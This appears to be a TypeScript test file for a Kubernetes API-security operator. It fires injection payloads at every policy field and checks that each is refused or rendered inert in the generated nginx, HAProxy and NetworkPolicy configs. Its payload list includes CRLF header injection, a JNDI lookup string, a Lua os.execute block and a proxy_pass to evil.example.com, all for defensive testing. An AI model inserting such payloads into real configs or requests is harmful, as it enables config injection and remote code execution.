// A corpus of injection payloads swept over every string field of the policy. Each (field, payload) is
// either refused — by the real API server at admission AND by the operator's own schema, which must
// agree — or rendered inert: no payload reaches an annotation or a proxy config, and `nginx -t`
// accepts every generated sidecar config.
import type { ApiSecurityPolicySpec} from '../../src/api/v1alpha1.ts';
import { parseSpec } from '../../src/api/v1alpha1.ts';
import type { KubeClient } from '../../src/k8s/client.ts';
import { ApiError } from '../../src/k8s/errors.ts';
import { Resources, collectionPath } from '../../src/k8s/resources.ts';
import { renderHaproxy } from '../../src/render/haproxy.ts';
import { renderIngressNginx } from '../../src/render/ingress-nginx.ts';
import { renderNetworkPolicies } from '../../src/render/network-policy.ts';
import { renderSidecarNginxConf } from '../../src/render/sidecar-nginx.ts';
import { defaultSettings } from '../../src/render/types.ts';
import { clientAs, createNamespace, installCrds } from '../support/kube.ts';
import { nginxTest } from '../support/nginx.ts';

const PAYLOADS = [
  'a\nb',
  'ok\r\nX-Injected: 1',
  '"quoted"',
  "it's",
  '}',
  '{ return 200; }',
  'a;b',
  '$host',
  '${jndi:ldap://x}',
  '#comment',
  'more_set_headers "X: 1"',
  'content_by_lua_block { os.execute("id") }',
  'proxy_pass http://evil.example.com;',
  'http-request set-header X-Evil 1',
  '`id`',
  'a\\b',
  'a\u0000b',
  'x'.repeat(5000),
  'ｅｘａｍｐｌｅ.com',
  'аpi.example.com', // Cyrillic а
  '%0d%0aSet-Cookie:x=1',
  ' spaced ',
];

const base = {
  targetRefs: [{ group: 'networking.k8s.io', kind: 'Ingress', name: 'web' }],
  tls: { httpsOnly: true },
  authorization: { defaultAction: 'Deny', rules: [{ methods: ['GET'], paths: ['/v1/items'], requireScopes: ['items:read'] }] },
  rateLimit: { requestsPerSecond: 5, key: 'Header', header: 'X-Client-Id' },
  ipAccess: { allow: ['10.0.0.0/8'], deny: ['10.9.0.0/16'] },
  cors: { allowOrigins: ['https://shop.example.com'], allowHeaders: ['Content-Type'], exposeHeaders: ['X-Request-Id'] },
  requestLimits: { maxBodySize: '1Mi', allowedContentTypes: ['application/json'] },
  network: { allowFrom: [{ namespaceSelector: { matchLabels: { team: 'shop' } } }, { ipBlock: { cidr: '10.0.0.0/8', except: ['10.1.0.0/16'] } }] },
  sidecar: { appPort: 3000 },
};
const authVariants: Record<string, unknown> = {
  oidc: { issuerURL: 'https://id.example.com', audiences: ['shop'], authURL: 'http://oauth2-proxy.auth/oauth2/auth', signinURL: 'https://auth.example.com/start' },
  jwt: { issuer: 'https://id.example.com', jwksURI: 'https://id.example.com/jwks', audiences: ['shop'], authURL: 'http://jwt-check.auth/verify' },
  apiKey: { header: 'X-Api-Key', authURL: 'http://key-check.auth/verify' },
  mtls: { caSecretRef: 'client-ca' },
  external: { authURL: 'http://authz.auth/check', responseHeaders: ['X-User'] },
};

/** Every string leaf of a spec, as a path. */
function stringPaths(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringPaths(v, [...path, i]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => stringPaths(v, [...path, k]));
  return [];
}

function withValue(spec: unknown, path: (string | number)[], value: string): Record<string, unknown> {
  const copy = structuredClone(spec) as Record<string, unknown>;
  let node = copy as Record<string | number, unknown>;
  for (const p of path.slice(0, -1)) node = node[p] as Record<string | number, unknown>;
  node[path[path.length - 1]!] = value;
  return copy;
}

const ENUMS = new Set(['group', 'kind', 'defaultAction', 'key', 'mode', 'provider']);

interface Case {
  field: string;
  payload: string;
  spec: Record<string, unknown>;
}

const cases: Case[] = [];
for (const [method, auth] of Object.entries(authVariants)) {
  const spec = { ...base, authentication: { [method]: auth } };
  for (const path of stringPaths(spec)) {
    const last = path[path.length - 1];
    if (typeof last === 'string' && ENUMS.has(last)) continue;
    if (path[0] !== 'authentication' && method !== 'oidc') continue; // non-auth fields once
    const original = String(path.reduce<unknown>((n, p) => (n as Record<string | number, unknown>)[p], spec));
    for (const payload of PAYLOADS) {
      cases.push({ field: path.join('.'), payload, spec: withValue(spec, path, payload) });
      cases.push({ field: path.join('.'), payload: `${original}${payload}`, spec: withValue(spec, path, `${original}${payload}`) });
    }
  }
  // Label keys are strings too.
  for (const payload of PAYLOADS) {
    const s = structuredClone(spec) as typeof base & { authentication: unknown };
    (s.network.allowFrom[0] as { namespaceSelector: { matchLabels: Record<string, string> } }).namespaceSelector.matchLabels = { [payload]: 'x' };
    if (method === 'oidc') cases.push({ field: 'network.allowFrom[0].namespaceSelector.matchLabels<key>', payload, spec: s });
  }
}

// eslint-disable-next-line no-control-regex -- NUL is one of the payloads we must catch
const FORBIDDEN_IN_VALUES = /[\n\r"'`{};$#\\\u0000]|[^\x20-\x7e]/;

function renderAll(spec: ApiSecurityPolicySpec): { annotations: Record<string, string>[]; conf: string; policies: string } {
  const policy = { name: 'hostile', namespace: 'ns', uid: 'u' };
  const nginx = renderIngressNginx(spec, 'ns').annotations;
  const haproxy = renderHaproxy(spec).annotations;
  // The HSTS header value is the operator's own constant text around integers.
  delete haproxy['haproxy.org/response-set-header'];
  const svc = { metadata: { name: 'web', namespace: 'ns' }, spec: { selector: { app: 'web' }, ports: [{ port: 80 }] } };
  return {
    annotations: [nginx, haproxy],
    conf: renderSidecarNginxConf(policy, spec),
    policies: JSON.stringify(renderNetworkPolicies(policy, spec, [svc], { providers: ['ingress-nginx'], settings: defaultSettings })),
  };
}

describe(`hostile input (${cases.length} field × payload cases)`, () => {
  let admin: KubeClient;
  let ns: string;

  beforeAll(async () => {
    admin = clientAs('admin');
    await installCrds(admin);
    ns = await createNamespace(admin, 'hostile');
  });

  it('the API server and the operator agree on every case, and what passes is rendered inert', async () => {
    const mismatches: string[] = [];
    const leaks: string[] = [];
    let refused = 0;
    const confs = new Set<string>();
    const queue = [...cases];
    const worker = async (): Promise<void> => {
      for (let c = queue.shift(); c; c = queue.shift()) {
        const zod = parseSpec(c.spec);
        let server: 'accepted' | 'refused';
        try {
          await admin.request('POST', collectionPath(Resources.policy, ns), {
            verb: 'create',
            query: { dryRun: 'All' },
            body: { apiVersion: 'apisec.dev/v1alpha1', kind: 'ApiSecurityPolicy', metadata: { generateName: 'h-', namespace: ns }, spec: c.spec },
          });
          server = 'accepted';
        } catch (err) {
          if (!(err instanceof ApiError) || (err.status !== 422 && err.status !== 400)) throw err;
          server = 'refused';
        }
        if ((zod.ok ? 'accepted' : 'refused') !== server) mismatches.push(`${c.field} = ${JSON.stringify(c.payload.slice(0, 60))}: server ${server}, operator ${zod.ok ? 'accepted' : 'refused'}`);
        if (!zod.ok) {
          refused++;
          continue;
        }
        const out = renderAll(zod.spec);
        for (const a of out.annotations) {
          for (const [k, v] of Object.entries(a)) if (FORBIDDEN_IN_VALUES.test(v) || v.length > 4096) leaks.push(`${c.field}: ${k}=${JSON.stringify(v.slice(0, 80))}`);
        }
        if (c.payload.length > 2 && (out.conf.includes(c.payload) || out.policies.includes(c.payload))) {
          // A payload may only appear when it is itself a harmless token that the schema accepts.
          if (FORBIDDEN_IN_VALUES.test(c.payload)) leaks.push(`${c.field}: payload reached the config: ${JSON.stringify(c.payload.slice(0, 80))}`);
        }
        confs.add(out.conf);
      }
    };
    await Promise.all(Array.from({ length: 8 }, worker));
    expect(mismatches).toEqual([]);
    expect(leaks).toEqual([]);
    expect(refused).toBeGreaterThan(cases.length / 2);
    // Every payload may be refused, leaving nothing for nginx: the unmodified specs are always checked.
    for (const [method, auth] of Object.entries(authVariants)) {
      const parsed = parseSpec({ ...base, authentication: { [method]: auth } });
      if (!parsed.ok) throw new Error(`the ${method} base spec is invalid: ${parsed.message}`);
      confs.add(renderAll(parsed.spec).conf);
    }
    for (const conf of confs) {
      const t = nginxTest(conf);
      if (!t.ok) throw new Error(`nginx -t refused a generated config: ${t.output}`);
    }
  }, 120_000);

  it('the minimum and maximum of every number field are accepted by the API server and by nginx -t', async () => {
    const sidecar = (port: number, appPort: number): Record<string, unknown> => ({ sidecar: { port, appPort } });
    const extremes: Record<string, unknown>[] = [
      { rateLimit: { requestsPerSecond: 100000, burst: 1000000, maxConnections: 65535 }, requestLimits: { maxBodySize: '64Gi' }, ...sidecar(65535, 65535) },
      { rateLimit: { requestsPerMinute: 6000000, burst: 100000, maxConnections: 65535 }, requestLimits: { maxBodySize: '68G' }, tls: { hsts: { maxAgeSeconds: 63072000 } } },
      { rateLimit: { requestsPerSecond: 1, burst: 1, maxConnections: 1 }, requestLimits: { maxBodySize: '1' }, ...sidecar(1024, 1), tls: { hsts: { maxAgeSeconds: 0 } } },
      { rateLimit: { requestsPerMinute: 1, burst: 1 }, requestLimits: { maxBodySize: '9999999999' }, cors: { allowOrigins: ['https://a.example.com'], maxAgeSeconds: 86400 } },
      { requestLimits: { maxBodySize: '65536Mi' }, cors: { allowOrigins: ['https://a.example.com'], maxAgeSeconds: 0 }, authentication: { mtls: { caSecretRef: 'ca', verifyDepth: 10 } } },
      { requestLimits: { maxBodySize: '67108864Ki' }, authentication: { mtls: { caSecretRef: 'ca', verifyDepth: 1 } } },
    ];
    for (const extreme of extremes) {
      const spec = { ...base, ...extreme };
      const parsed = parseSpec(spec);
      if (!parsed.ok) throw new Error(`${JSON.stringify(extreme)}: ${parsed.message}`);
      await admin.request('POST', collectionPath(Resources.policy, ns), {
        verb: 'create',
        query: { dryRun: 'All' },
        body: { apiVersion: 'apisec.dev/v1alpha1', kind: 'ApiSecurityPolicy', metadata: { generateName: 'bounds-', namespace: ns }, spec },
      });
      const t = nginxTest(renderAll(parsed.spec).conf);
      if (!t.ok) throw new Error(`nginx -t refused ${JSON.stringify(extreme)}: ${t.output}`);
    }
  }, 60_000);
});
